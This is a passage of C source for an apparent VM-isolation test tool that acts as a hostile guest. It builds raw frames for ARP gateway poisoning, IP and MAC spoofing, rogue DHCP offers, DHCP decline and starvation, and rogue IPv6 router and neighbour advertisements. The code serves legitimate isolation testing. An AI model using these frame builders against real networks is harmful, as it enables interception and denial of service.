/* vmb-attack - the hostile student of vmbatch's isolation test, and the witness on the other side.
 *
 *   vmb-attack attack PEER_IP [PEER_MAC|-] [FLOOD_N]
 *   vmb-attack listen SECONDS
 *   vmb-attack tcp IP:PORT[-LASTPORT]...
 *   vmb-attack serialflood DEVICE BYTES[K|M]
 *
 * Built static (gcc -static) by scripts/build-test-guest.sh into the test guest as /bin/vmb-attack;
 * the guest's /init runs it after its DHCP lease when the kernel command line has vmb.attack= or
 * vmb.listen= (tests/integration/test-isolation.sh boots one guest of each).
 *
 * attack: from eth0, with a raw AF_PACKET socket, sends every attack of ISOLATION.md once (a few
 * frames each) and the legitimate probes, one line per probe on stdout (the console):
 *     VMB-PROBE <name> sent n=<frames> [reply=yes|no ...]
 * then "VMB-ATTACK-END". Every frame carries "VMBTAG:<name>:<seq>:" (in the payload, or after the
 * ARP body, or in an ND option / BOOTP sname), so a receiver can name the probe it got. Two probes
 * use the guest's own kernel instead: dns-gw (a UDP query to the gateway's port 53, tagged) and
 * gw-tcp (a TCP connect to the gateway's port 2222, untagged: the test's listener counts it).
 *
 * listen: puts eth0 in promiscuous mode, pings nothing but makes the kernel resolve the gateway (so
 * an ARP poisoning has an entry to overwrite), then prints "VMB-LISTENING ..." and, for each probe
 * name, "VMB-SEEN <name> ..." the first time a tagged frame arrives. It ends after SECONDS, or when
 * a UDP datagram "stop" arrives on port 7777 (the test sends it from the gateway), printing
 * "VMB-SEEN-COUNT <name> <n>" per name, the ARP cache ("VMB-ARP <ip> <mac> <flags>"), its global
 * IPv6 addresses and IPv6 default routes (what a rogue RA would have given it), then
 * "VMB-LISTEN-END reason=stop|timeout tags=<total>". A datagram "rebind" on that port makes it get
 * its address again from scratch, as a rebooted guest would (DHCPDISCOVER, REQUEST of the offer), and
 * print "VMB-REBIND result=ack|no-offer|...": no-offer when a DECLINE in its name reached dnsmasq
 * (which then offers a declined static address to nobody for 10 minutes). While listening it also
 * prints
 * "VMB-GW-MAC <mac> ms=<t>" whenever its ARP entry for the gateway changes (a poisoning shows even
 * if a later ARP from the real gateway repairs the entry).
 *
 * tcp: for each target and port, a TCP connect from our kernel to IP:PORT (3 s), then up to 12 bytes read (3 s):
 *     VMB-TCP <ip>:<port> ok banner=<first line, or none> | refused | timeout | error=<errno name>
 * then "VMB-TCP-END" (tests/integration/test-hostile-guest.sh: the gateway's VNC ports).
 *
 * serialflood: writes BYTES of numbered 64-byte lines "VMB-FLOOD <8 digits> xxx...\n" to DEVICE (the
 * guest's serial port) as fast as it takes them, output post-processing off (no \r added: the count
 * is exact), then "VMB-FLOOD-END lines=<n> bytes=<n> ms=<t>" on the same device (the test finds it in
 * the kept tail of a capped serial log).
 *
 * The interface is eth0 unless VMB_IFACE says otherwise. Nothing here needs more than the
 * kernel: no libpcap, no busybox. The attacker claims SPOOF_MAC and FOREIGN_IP below;
 * tests/integration/test-isolation.sh looks for them in the host's fdb and neighbour table.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define TAG_PREFIX "VMBTAG:"
#define STOP_PORT 7777
#define ETH_P_LOCAL_EXP ETH_P_802_EX1 /* 0x88b5, "local experimental" */

static const uint8_t BCAST[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
static const uint8_t ALLNODES6_MAC[6] = {0x33, 0x33, 0x00, 0x00, 0x00, 0x01};
static const uint8_t SPOOF_MAC[6] = {0x02, 0x00, 0xde, 0xad, 0xbe, 0xef};   /* not ours, not anyone's */
static const uint8_t UNKNOWN_MAC[6] = {0x02, 0x00, 0xde, 0xad, 0x00, 0x99}; /* a guest "on another host" */
#define FOREIGN_IP "192.168.100.249" /* an address nobody holds */
#define UNKNOWN_IP "192.168.100.250"
#define ROGUE_YIADDR "192.168.100.248"
#define GW_TCP_PORT 2222 /* the test's listener on the gateway: a host service guests must not reach */

static const char *ifname = "eth0";
static int ifindex;
static uint8_t my_mac[6];
static uint32_t my_ip; /* network byte order, as all addresses here */
static int pkt_fd = -1;

static void out(const char *fmt, ...) {
        va_list ap;
        va_start(ap, fmt);
        vprintf(fmt, ap);
        va_end(ap);
        putchar('\n');
        fflush(stdout);
}

static void die(const char *what) {
        out("VMB-ATTACK-ERROR %s: %s", what, strerror(errno));
        exit(2);
}

static uint64_t now_ms(void) {
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static void sleep_ms(unsigned ms) {
        struct timespec ts = {ms / 1000, (long)(ms % 1000) * 1000000L};
        while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
                ;
}

static const char *mac_str(const uint8_t m[6]) {
        static char buf[4][18];
        static int i;
        i = (i + 1) % 4;
        snprintf(buf[i], sizeof(buf[i]), "%02x:%02x:%02x:%02x:%02x:%02x", m[0], m[1], m[2], m[3], m[4], m[5]);
        return buf[i];
}

static const char *ip_str(uint32_t a) {
        static char buf[4][INET_ADDRSTRLEN];
        static int i;
        i = (i + 1) % 4;
        inet_ntop(AF_INET, &a, buf[i], sizeof(buf[i]));
        return buf[i];
}

static int parse_mac(const char *s, uint8_t m[6]) {
        unsigned v[6];
        if (sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6)
                return -1;
        for (int i = 0; i < 6; i++)
                m[i] = (uint8_t)v[i];
        return 0;
}

static uint32_t ip_of(const char *s) {
        struct in_addr a;
        if (inet_pton(AF_INET, s, &a) != 1) {
                out("VMB-ATTACK-ERROR bad address %s", s);
                exit(2);
        }
        return a.s_addr;
}

/* ---------- the interface ---------- */

static void iface_info(void) {
        const char *e = getenv("VMB_IFACE");
        if (e && *e)
                ifname = e;
        int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (s < 0)
                die("socket");
        struct ifreq ifr;
        memset(&ifr, 0, sizeof(ifr));
        snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
        if (ioctl(s, SIOCGIFINDEX, &ifr) < 0)
                die("SIOCGIFINDEX");
        ifindex = ifr.ifr_ifindex;
        if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0)
                die("SIOCGIFHWADDR");
        memcpy(my_mac, ifr.ifr_hwaddr.sa_data, 6);
        if (ioctl(s, SIOCGIFADDR, &ifr) == 0)
                my_ip = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
        close(s);
}

/* the default route's gateway from /proc/net/route, 0 if none */
static uint32_t default_gateway(void) {
        FILE *f = fopen("/proc/net/route", "re");
        char line[256], dev[32];
        unsigned dst, gw, flags;
        uint32_t r = 0;
        if (!f)
                return 0;
        while (fgets(line, sizeof(line), f))
                if (sscanf(line, "%31s %x %x %x", dev, &dst, &gw, &flags) == 4 && dst == 0 && gw != 0) {
                        r = gw; /* /proc prints the raw (network order) word in host order */
                        break;
                }
        fclose(f);
        return r;
}

/* the kernel's ARP entry for ip: 0 and mac set when complete */
static int arp_cache_lookup(uint32_t ip, uint8_t mac[6]) {
        FILE *f = fopen("/proc/net/arp", "re");
        char line[256], a[64], hw[64];
        unsigned type, flags;
        int r = -1;
        if (!f)
                return -1;
        while (fgets(line, sizeof(line), f))
                if (sscanf(line, "%63s 0x%x 0x%x %63s", a, &type, &flags, hw) == 4 && (flags & 0x2) &&
                    inet_addr(a) == ip && parse_mac(hw, mac) == 0) {
                        r = 0;
                        break;
                }
        fclose(f);
        return r;
}

static void open_packet_socket(bool promisc) {
        pkt_fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
        if (pkt_fd < 0)
                die("socket(AF_PACKET)");
        struct sockaddr_ll sll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = ifindex};
        if (bind(pkt_fd, (struct sockaddr *)&sll, sizeof(sll)) < 0)
                die("bind(AF_PACKET)");
        int sz = 4 << 20;
        setsockopt(pkt_fd, SOL_SOCKET, SO_RCVBUFFORCE, &sz, sizeof(sz));
        if (promisc) {
                struct packet_mreq mr = {.mr_ifindex = ifindex, .mr_type = PACKET_MR_PROMISC};
                if (setsockopt(pkt_fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &mr, sizeof(mr)) < 0)
                        die("PACKET_MR_PROMISC");
        }
}

static int send_frame(const uint8_t *f, size_t n) {
        uint8_t pad[64];
        if (n < 60) { /* as a NIC would pad it */
                memset(pad, 0, sizeof(pad));
                memcpy(pad, f, n);
                f = pad;
                n = 60;
        }
        for (int tries = 0; tries < 50; tries++) {
                if (send(pkt_fd, f, n, 0) == (ssize_t)n)
                        return 0;
                if (errno != ENOBUFS && errno != EAGAIN)
                        break;
                sleep_ms(1);
        }
        return -1;
}

/* receive one frame addressed to us or broadcast (not our own outgoing ones); -1 on timeout */
static ssize_t recv_frame(uint8_t *buf, size_t len, uint64_t deadline) {
        for (;;) {
                uint64_t t = now_ms();
                if (t >= deadline)
                        return -1;
                struct pollfd p = {.fd = pkt_fd, .events = POLLIN};
                if (poll(&p, 1, (int)(deadline - t)) <= 0)
                        continue;
                struct sockaddr_ll from;
                socklen_t fl = sizeof(from);
                ssize_t n = recvfrom(pkt_fd, buf, len, 0, (struct sockaddr *)&from, &fl);
                if (n < 14 || from.sll_pkttype == PACKET_OUTGOING)
                        continue;
                return n;
        }
}

/* ---------- frame builders: each returns the bytes it wrote ---------- */

static uint32_t csum_add(uint32_t sum, const void *data, size_t n) {
        const uint8_t *p = data;
        for (; n > 1; p += 2, n -= 2)
                sum += (uint32_t)p[0] << 8 | p[1];
        if (n)
                sum += (uint32_t)p[0] << 8;
        return sum;
}

static uint16_t csum_fold(uint32_t sum) {
        while (sum >> 16)
                sum = (sum & 0xffff) + (sum >> 16);
        return htons((uint16_t)~sum);
}

static void put16(uint8_t *p, uint16_t v) {
        p[0] = v >> 8;
        p[1] = v & 0xff;
}

static void put32(uint8_t *p, uint32_t v) {
        put16(p, v >> 16);
        put16(p + 2, v & 0xffff);
}

static size_t put_tag(uint8_t *p, const char *name, unsigned seq) {
        return (size_t)sprintf((char *)p, TAG_PREFIX "%s:%u:", name, seq);
}

static size_t eth(uint8_t *p, const uint8_t dst[6], const uint8_t src[6], uint16_t type) {
        memcpy(p, dst, 6);
        memcpy(p + 6, src, 6);
        put16(p + 12, type);
        return 14;
}

static size_t vlan(uint8_t *p, uint16_t vid, uint16_t inner_type) {
        put16(p, vid & 0xfff);
        put16(p + 2, inner_type);
        return 4;
}

/* IPv4 header + body already written at p+20 (len bytes); fills the header */
static size_t ipv4(uint8_t *p, uint32_t src, uint32_t dst, uint8_t proto, size_t len) {
        static uint16_t id = 0x4d42;
        p[0] = 0x45;
        p[1] = 0;
        put16(p + 2, (uint16_t)(20 + len));
        put16(p + 4, id++);
        put16(p + 6, 0);
        p[8] = 64;
        p[9] = proto;
        put16(p + 10, 0);
        memcpy(p + 12, &src, 4);
        memcpy(p + 16, &dst, 4);
        uint16_t c = csum_fold(csum_add(0, p, 20));
        memcpy(p + 10, &c, 2);
        return 20 + len;
}

/* IPv4 + UDP around payload (copied); returns IP length */
static size_t ipv4_udp(uint8_t *p, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport, const void *payload,
                       size_t plen) {
        uint8_t *u = p + 20;
        put16(u, sport);
        put16(u + 2, dport);
        put16(u + 4, (uint16_t)(8 + plen));
        put16(u + 6, 0);
        memcpy(u + 8, payload, plen);
        uint8_t ph[12];
        memcpy(ph, &src, 4);
        memcpy(ph + 4, &dst, 4);
        ph[8] = 0;
        ph[9] = IPPROTO_UDP;
        put16(ph + 10, (uint16_t)(8 + plen));
        uint16_t c = csum_fold(csum_add(csum_add(0, ph, 12), u, 8 + plen));
        if (c == 0)
                c = 0xffff;
        memcpy(u + 6, &c, 2);
        return ipv4(p, src, dst, IPPROTO_UDP, 8 + plen);
}

/* ICMP echo request (type 8) or reply (type 0) */
static size_t ipv4_icmp_echo(uint8_t *p, uint8_t type, uint32_t src, uint32_t dst, uint16_t id, uint16_t seq,
                             const void *payload, size_t plen) {
        uint8_t *c = p + 20;
        c[0] = type;
        c[1] = 0;
        put16(c + 2, 0);
        put16(c + 4, id);
        put16(c + 6, seq);
        memcpy(c + 8, payload, plen);
        uint16_t s = csum_fold(csum_add(0, c, 8 + plen));
        memcpy(c + 2, &s, 2);
        return ipv4(p, src, dst, IPPROTO_ICMP, 8 + plen);
}

static size_t arp(uint8_t *p, uint16_t op, const uint8_t sha[6], uint32_t spa, const uint8_t tha[6], uint32_t tpa) {
        put16(p, 1);      /* Ethernet */
        put16(p + 2, 0x0800);
        p[4] = 6;
        p[5] = 4;
        put16(p + 6, op);
        memcpy(p + 8, sha, 6);
        memcpy(p + 14, &spa, 4);
        memcpy(p + 18, tha, 6);
        memcpy(p + 24, &tpa, 4);
        return 28;
}

static void link_local6(uint8_t a[16], const uint8_t mac[6]) {
        memset(a, 0, 16);
        a[0] = 0xfe;
        a[1] = 0x80;
        a[8] = mac[0] ^ 2;
        a[9] = mac[1];
        a[10] = mac[2];
        a[11] = 0xff;
        a[12] = 0xfe;
        a[13] = mac[3];
        a[14] = mac[4];
        a[15] = mac[5];
}

/* IPv6 header around a body already at p+40 (len bytes); fills the upper-layer checksum at csum_off */
static size_t ipv6(uint8_t *p, const uint8_t src[16], const uint8_t dst[16], uint8_t nh, size_t len, size_t csum_off) {
        put32(p, 0x60000000);
        put16(p + 4, (uint16_t)len);
        p[6] = nh;
        p[7] = 255;
        memcpy(p + 8, src, 16);
        memcpy(p + 24, dst, 16);
        uint8_t ph[8] = {0};
        put32(ph, (uint32_t)len);
        ph[7] = nh;
        memset(p + 40 + csum_off, 0, 2);
        uint16_t c = csum_fold(csum_add(csum_add(csum_add(csum_add(0, src, 16), dst, 16), ph, 8), p + 40, len));
        memcpy(p + 40 + csum_off, &c, 2);
        return 40 + len;
}

/* BOOTP message (op 1 request / 2 reply) with DHCP message type mtype; returns its length */
static size_t bootp(uint8_t *p, uint8_t op, uint32_t xid, const uint8_t chaddr[6], uint32_t yiaddr, uint32_t siaddr,
                    const char *tagname, unsigned seq, uint8_t mtype, uint32_t server_id) {
        memset(p, 0, 300);
        p[0] = op;
        p[1] = 1;
        p[2] = 6;
        put32(p + 4, xid);
        put16(p + 10, 0x8000); /* broadcast */
        memcpy(p + 16, &yiaddr, 4);
        memcpy(p + 20, &siaddr, 4);
        memcpy(p + 28, chaddr, 6);
        put_tag(p + 44, tagname, seq); /* sname */
        uint8_t *o = p + 236;
        put32(o, 0x63825363);
        o += 4;
        *o++ = 53;
        *o++ = 1;
        *o++ = mtype;
        if (server_id) {
                uint32_t mask = htonl(0xffffff00);
                uint32_t lease = htonl(3600);
                *o++ = 54; *o++ = 4; memcpy(o, &server_id, 4); o += 4;
                *o++ = 51; *o++ = 4; memcpy(o, &lease, 4); o += 4;
                *o++ = 1;  *o++ = 4; memcpy(o, &mask, 4); o += 4;
                *o++ = 3;  *o++ = 4; memcpy(o, &server_id, 4); o += 4; /* "I am your router" */
                *o++ = 6;  *o++ = 4; memcpy(o, &server_id, 4); o += 4; /* "and your DNS" */
        }
        *o++ = 255;
        size_t n = (size_t)(o - p);
        return n < 300 ? 300 : n;
}

/* ---------- attack ---------- */

static uint8_t gw_mac[6], peer_mac[6];
static uint32_t gw_ip, peer_ip;
static bool have_gw_mac, have_peer_mac;

/* ARP who-has target from (sha, spa) to dst; tagged; returns 0 and the answer's MAC on a reply */
static int arp_ask(const char *name, uint32_t target, uint8_t ret_mac[6], int *sent) {
        static const uint8_t zero[6];
        uint8_t f[128], r[2048];
        for (int k = 0; k < 3; k++) {
                size_t n = eth(f, BCAST, my_mac, ETH_P_ARP);
                n += arp(f + n, 1, my_mac, my_ip, zero, target);
                n += put_tag(f + n, name, (unsigned)k);
                send_frame(f, n);
                (*sent)++;
                uint64_t deadline = now_ms() + 1000;
                ssize_t m;
                while ((m = recv_frame(r, sizeof(r), deadline)) >= 42) {
                        if (r[12] == 0x08 && r[13] == 0x06 && r[20] == 0 && r[21] == 2 && !memcmp(r + 28, &target, 4) &&
                            !memcmp(r + 38, &my_ip, 4)) {
                                memcpy(ret_mac, r + 22, 6);
                                return 0;
                        }
                }
        }
        return -1;
}

/* tagged ICMP echo to (dst_mac, dst); 0 when an echo reply from dst came back */
static int ping(const char *name, const uint8_t dst_mac[6], uint32_t dst, int *sent) {
        uint8_t f[256], r[2048], payload[64];
        uint16_t id = (uint16_t)(0x5600 | (getpid() & 0xff));
        for (int k = 0; k < 3; k++) {
                size_t pl = put_tag(payload, name, (unsigned)k);
                size_t n = eth(f, dst_mac, my_mac, ETH_P_IP);
                n += ipv4_icmp_echo(f + n, 8, my_ip, dst, id, (uint16_t)k, payload, pl);
                send_frame(f, n);
                (*sent)++;
                uint64_t deadline = now_ms() + 1500;
                ssize_t m;
                while ((m = recv_frame(r, sizeof(r), deadline)) >= 42) {
                        if (r[12] == 0x08 && r[13] == 0x00 && r[23] == IPPROTO_ICMP && !memcmp(r + 26, &dst, 4)) {
                                size_t ihl = (size_t)(r[14] & 0xf) * 4;
                                const uint8_t *c = r + 14 + ihl;
                                if ((size_t)m >= 14 + ihl + 8 && c[0] == 0 && c[4] == (id >> 8) && c[5] == (id & 0xff))
                                        return 0;
                        }
                }
        }
        return -1;
}

static int udp_frame(const char *name, unsigned seq, const uint8_t dst_mac[6], const uint8_t src_mac[6], uint32_t src,
                     uint32_t dst, uint16_t sport, uint16_t dport) {
        uint8_t f[256], payload[64];
        size_t pl = put_tag(payload, name, seq);
        size_t n = eth(f, dst_mac, src_mac, ETH_P_IP);
        n += ipv4_udp(f + n, src, dst, sport, dport, payload, pl);
        return send_frame(f, n);
}

/* an unsolicited ICMP echo reply: the receiver answers nothing, so the host does not go looking
 * for a spoofed source address (that would disturb the ARP observations) */
static int echo_reply_frame(const char *name, unsigned seq, const uint8_t dst_mac[6], const uint8_t src_mac[6],
                            uint32_t src, uint32_t dst) {
        uint8_t f[256], payload[64];
        size_t pl = put_tag(payload, name, seq);
        size_t n = eth(f, dst_mac, src_mac, ETH_P_IP);
        n += ipv4_icmp_echo(f + n, 0, src, dst, 0x5653, (uint16_t)seq, payload, pl);
        return send_frame(f, n);
}

static void probe_spoofed_ip(const char *name, const uint8_t src_mac[6], uint32_t src) {
        int sent = 0;
        for (unsigned k = 0; k < 3; k++) {
                /* to the peer, and to the gateway (the host sees what reaches it) */
                sent += echo_reply_frame(name, k, peer_mac, src_mac, src, peer_ip) == 0;
                if (have_gw_mac)
                        sent += echo_reply_frame(name, k, gw_mac, src_mac, src, gw_ip) == 0;
                sleep_ms(100);
        }
        out("VMB-PROBE %s sent n=%d src=%s/%s", name, sent, mac_str(src_mac), ip_str(src));
}

static void probe_arp_gw_claim(void) {
        uint8_t f[128];
        int sent = 0;
        for (unsigned k = 0; k < 3; k++) {
                /* unicast reply to the peer: "the gateway is at my MAC" */
                size_t n = eth(f, peer_mac, my_mac, ETH_P_ARP);
                n += arp(f + n, 2, my_mac, gw_ip, peer_mac, peer_ip);
                n += put_tag(f + n, "arp-gw-claim", k);
                sent += send_frame(f, n) == 0;
                /* gratuitous (broadcast) reply for the gateway's address */
                n = eth(f, BCAST, my_mac, ETH_P_ARP);
                n += arp(f + n, 2, my_mac, gw_ip, BCAST, gw_ip);
                n += put_tag(f + n, "arp-gw-claim", k);
                sent += send_frame(f, n) == 0;
                sleep_ms(300);
        }
        out("VMB-PROBE arp-gw-claim sent n=%d claim=%s-is-at-%s", sent, ip_str(gw_ip), mac_str(my_mac));
}

/* ARP request for the gateway (and the peer) with a sender that is not us */
static void probe_arp_sender(const char *name, const uint8_t sha[6], uint32_t spa) {
        static const uint8_t zero[6];
        uint8_t f[128];
        int sent = 0;
        for (unsigned k = 0; k < 3; k++) {
                size_t n = eth(f, BCAST, my_mac, ETH_P_ARP);
                n += arp(f + n, 1, sha, spa, zero, gw_ip);
                n += put_tag(f + n, name, k);
                sent += send_frame(f, n) == 0;
                n = eth(f, peer_mac, my_mac, ETH_P_ARP);
                n += arp(f + n, 1, sha, spa, zero, peer_ip);
                n += put_tag(f + n, name, k);
                sent += send_frame(f, n) == 0;
                sleep_ms(300);
        }
        out("VMB-PROBE %s sent n=%d sender=%s/%s", name, sent, mac_str(sha), ip_str(spa));
}

/* a rogue OFFER for the peer, from the server port 67 or (sport 6767) any other: both reach a
 * client's port 68, which dhclient and systemd-networkd accept */
static void probe_dhcp_offer(const char *name, uint16_t sport) {
        uint8_t f[600], b[400];
        int sent = 0;
        for (unsigned k = 0; k < 3; k++) {
                size_t bl = bootp(b, 2, 0x564d4200 + k, peer_mac, ip_of(ROGUE_YIADDR), my_ip, name, k, 2, my_ip);
                size_t n = eth(f, BCAST, my_mac, ETH_P_IP);
                n += ipv4_udp(f + n, my_ip, INADDR_BROADCAST, sport, 68, b, bl);
                sent += send_frame(f, n) == 0;
                sleep_ms(200);
        }
        out("VMB-PROBE %s sent n=%d server=%s:%u yiaddr=%s", name, sent, ip_str(my_ip), sport, ROGUE_YIADDR);
}

/* a DHCP client message (op 1, message type mtype) naming chaddr, with the requested address and the
 * server id (options 50, 54) */
static size_t bootp_client(uint8_t *b, uint32_t xid, const uint8_t chaddr[6], uint32_t ciaddr, const char *tagname,
                           unsigned seq, uint8_t mtype, uint32_t requested, uint32_t server) {
        size_t bl = bootp(b, 1, xid, chaddr, 0, 0, tagname, seq, mtype, 0);
        memcpy(b + 12, &ciaddr, 4);
        uint8_t *o = b + 236 + 4 + 3; /* after the magic cookie and option 53 */
        if (requested) {
                *o++ = 50; *o++ = 4; memcpy(o, &requested, 4); o += 4;
        }
        if (server) {
                *o++ = 54; *o++ = 4; memcpy(o, &server, 4); o += 4;
        }
        *o++ = 255;
        return bl;
}

/* DHCPDECLINE of the peer's address in the peer's name (its MAC as chaddr): dnsmasq then refuses
 * that static address for 10 minutes (a DISCOVER of the listener's gets no offer) */
static void probe_dhcp_decline(void) {
        uint8_t f[600], b[400];
        int sent = 0;
        for (unsigned k = 0; k < 2; k++) {
                size_t bl = bootp_client(b, 0x44454300 + k, peer_mac, 0, "dhcp-decline", k, 4, peer_ip, gw_ip);
                size_t n = eth(f, BCAST, my_mac, ETH_P_IP);
                n += ipv4_udp(f + n, 0, INADDR_BROADCAST, 68, 67, b, bl);
                sent += send_frame(f, n) == 0;
                sleep_ms(200);
        }
        out("VMB-PROBE dhcp-decline sent n=%d chaddr=%s address=%s", sent, mac_str(peer_mac), ip_str(peer_ip));
}

/* DHCPDISCOVERs for made-up clients: does the server hand out addresses to unknown hosts? */
static void probe_dhcp_starve(void) {
        uint8_t f[600], b[400], r[2048];
        int sent = 0, offers = 0;
        for (unsigned k = 0; k < 2; k++) {
                uint8_t ch[6] = {0x02, 0x00, 0x66, 0x66, (uint8_t)(getpid() & 0xff), (uint8_t)k};
                uint32_t xid = 0x53544100 + k;
                size_t bl = bootp(b, 1, xid, ch, 0, 0, "dhcp-starve", k, 1, 0);
                size_t n = eth(f, BCAST, my_mac, ETH_P_IP);
                n += ipv4_udp(f + n, 0, INADDR_BROADCAST, 68, 67, b, bl);
                sent += send_frame(f, n) == 0;
                uint64_t deadline = now_ms() + 3000;
                ssize_t m;
                while ((m = recv_frame(r, sizeof(r), deadline)) > 0) {
                        if (m < 14 + 20 + 8 + 240 || r[12] != 0x08 || r[13] != 0x00 || r[23] != IPPROTO_UDP)
                                continue;
                        size_t ihl = (size_t)(r[14] & 0xf) * 4;
                        const uint8_t *u = r + 14 + ihl, *bp = u + 8;
                        if (u[0] != 0 || u[1] != 67 || u[2] != 0 || u[3] != 68 || bp[0] != 2)
                                continue;
                        uint32_t x = (uint32_t)bp[4] << 24 | (uint32_t)bp[5] << 16 | (uint32_t)bp[6] << 8 | bp[7];
                        if (x == xid && !memcmp(bp + 28, ch, 6)) {
                                offers++;
                                out("VMB-DHCP-STARVE-OFFER chaddr=%s yiaddr=%s", mac_str(ch), ip_str(*(uint32_t *)(bp + 16)));
                                break;
                        }
                }
        }
        out("VMB-PROBE dhcp-starve sent n=%d offer=%s", sent, offers ? "yes" : "no");
}

static void probe_ra(void) {
        uint8_t f[400], src[16], dst[16] = {0xff, 0x02, [15] = 1};
        int sent = 0;
        link_local6(src, my_mac);
        for (unsigned k = 0; k < 3; k++) {
                size_t n = eth(f, ALLNODES6_MAC, my_mac, ETH_P_IPV6);
                uint8_t *ra = f + n + 40, *o;
                memset(ra, 0, 200);
                ra[0] = 134;
                ra[4] = 64;            /* cur hop limit */
                put16(ra + 6, 1800);   /* router lifetime: "I am your default router" */
                o = ra + 16;
                o[0] = 1; /* source link-layer address */
                o[1] = 1;
                memcpy(o + 2, my_mac, 6);
                o += 8;
                o[0] = 3; /* prefix information: 2001:db8:66::/64, on-link, autonomous */
                o[1] = 4;
                o[2] = 64;
                o[3] = 0xc0;
                put32(o + 4, 86400);
                put32(o + 8, 14400);
                o[16] = 0x20;
                o[17] = 0x01;
                o[18] = 0x0d;
                o[19] = 0xb8;
                o[21] = 0x66;
                o += 32;
                /* an option of an unassigned type carrying the tag: receivers skip it */
                uint8_t tagbuf[64];
                size_t tl = put_tag(tagbuf, "ipv6-ra", k);
                size_t ol = (2 + tl + 7) / 8;
                memset(o, 0, ol * 8);
                o[0] = 253;
                o[1] = (uint8_t)ol;
                memcpy(o + 2, tagbuf, tl);
                o += ol * 8;
                n += ipv6(f + n, src, dst, 58, (size_t)(o - ra), 2);
                sent += send_frame(f, n) == 0;
                sleep_ms(300);
        }
        out("VMB-PROBE ipv6-ra sent n=%d prefix=2001:db8:66::/64 router=self", sent);
}

static void probe_dhcpv6(void) {
        uint8_t f[400], src[16], dst[16] = {0xff, 0x02, [15] = 1};
        int sent = 0;
        link_local6(src, my_mac);
        for (unsigned k = 0; k < 3; k++) {
                size_t n = eth(f, ALLNODES6_MAC, my_mac, ETH_P_IPV6);
                uint8_t *u = f + n + 40, *d = u + 8;
                d[0] = 2; /* ADVERTISE */
                d[1] = 0x56;
                d[2] = 0x4d;
                d[3] = (uint8_t)k;
                uint8_t *o = d + 4;
                put16(o, 2); /* server id: DUID-LL of our MAC */
                put16(o + 2, 10);
                put16(o + 4, 3);
                put16(o + 6, 1);
                memcpy(o + 8, my_mac, 6);
                o += 14;
                uint8_t tagbuf[64];
                size_t tl = put_tag(tagbuf, "dhcpv6-adv", k);
                put16(o, 65000); /* unassigned option code carrying the tag */
                put16(o + 2, (uint16_t)tl);
                memcpy(o + 4, tagbuf, tl);
                o += 4 + tl;
                size_t ulen = (size_t)(o - u);
                put16(u, 547);
                put16(u + 2, 546);
                put16(u + 4, (uint16_t)ulen);
                n += ipv6(f + n, src, dst, IPPROTO_UDP, ulen, 6);
                sent += send_frame(f, n) == 0;
                sleep_ms(200);
        }
        out("VMB-PROBE dhcpv6-adv sent n=%d", sent);
}

/* an ICMPv6 message to ff02::1 from src: type, the 32 bits after the checksum, for a neighbour
 * message its target and a link-layer address option (opt_type) with our MAC, then the tag in an
 * option of an unassigned type */
static int icmp6_frame(const char *name, unsigned seq, const uint8_t src[16], uint8_t type, uint32_t word,
                       const uint8_t *target, uint8_t opt_type) {
        static const uint8_t dst[16] = {0xff, 0x02, [15] = 1};
        uint8_t f[400], tagbuf[64];
        size_t n = eth(f, ALLNODES6_MAC, my_mac, ETH_P_IPV6);
        uint8_t *m = f + n + 40, *o = m + 8;
        memset(m, 0, 200);
        m[0] = type;
        put32(m + 4, word);
        if (target) {
                memcpy(o, target, 16);
                o[16] = opt_type;
                o[17] = 1;
                memcpy(o + 18, my_mac, 6);
                o += 24;
        }
        size_t tl = put_tag(tagbuf, name, seq), ol = (2 + tl + 7) / 8;
        o[0] = 253;
        o[1] = (uint8_t)ol;
        memcpy(o + 2, tagbuf, tl);
        o += ol * 8;
        n += ipv6(f + n, src, dst, 58, (size_t)(o - m), 2);
        return send_frame(f, n);
}

/* IPv6 from a source that is not our MAC-derived link-local address: made up, and the peer's */
static void probe_ipv6_spoof(void) {
        uint8_t made_up[16] = {0xfe, 0x80, [12] = 0xde, 0xad, 0xbe, 0xef}, peer_ll[16];
        int sent = 0;
        link_local6(peer_ll, peer_mac);
        for (unsigned k = 0; k < 3; k++) {
                sent += icmp6_frame("ipv6-spoof", k, made_up, 128, 0x56530000 | k, NULL, 0) == 0;
                sent += icmp6_frame("ipv6-spoof", k, peer_ll, 128, 0x56530100 | k, NULL, 0) == 0;
                sleep_ms(100);
        }
        out("VMB-PROBE ipv6-spoof sent n=%d src=fe80::dead:beef,peer-link-local", sent);
}

/* a neighbour advertisement (override) that the peer's link-local address is at our MAC */
static void probe_ipv6_na(void) {
        uint8_t src[16], peer_ll[16];
        int sent = 0;
        link_local6(src, my_mac);
        link_local6(peer_ll, peer_mac);
        for (unsigned k = 0; k < 3; k++) {
                sent += icmp6_frame("ipv6-na", k, src, 136, 0x20000000, peer_ll, 2) == 0;
                sleep_ms(100);
        }
        out("VMB-PROBE ipv6-na sent n=%d target=peer-link-local tlla=%s", sent, mac_str(my_mac));
}

/* our kernel connects to the gateway's TCP port GW_TCP_PORT (a listener of the test) */
static void probe_gw_tcp(void) {
        int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
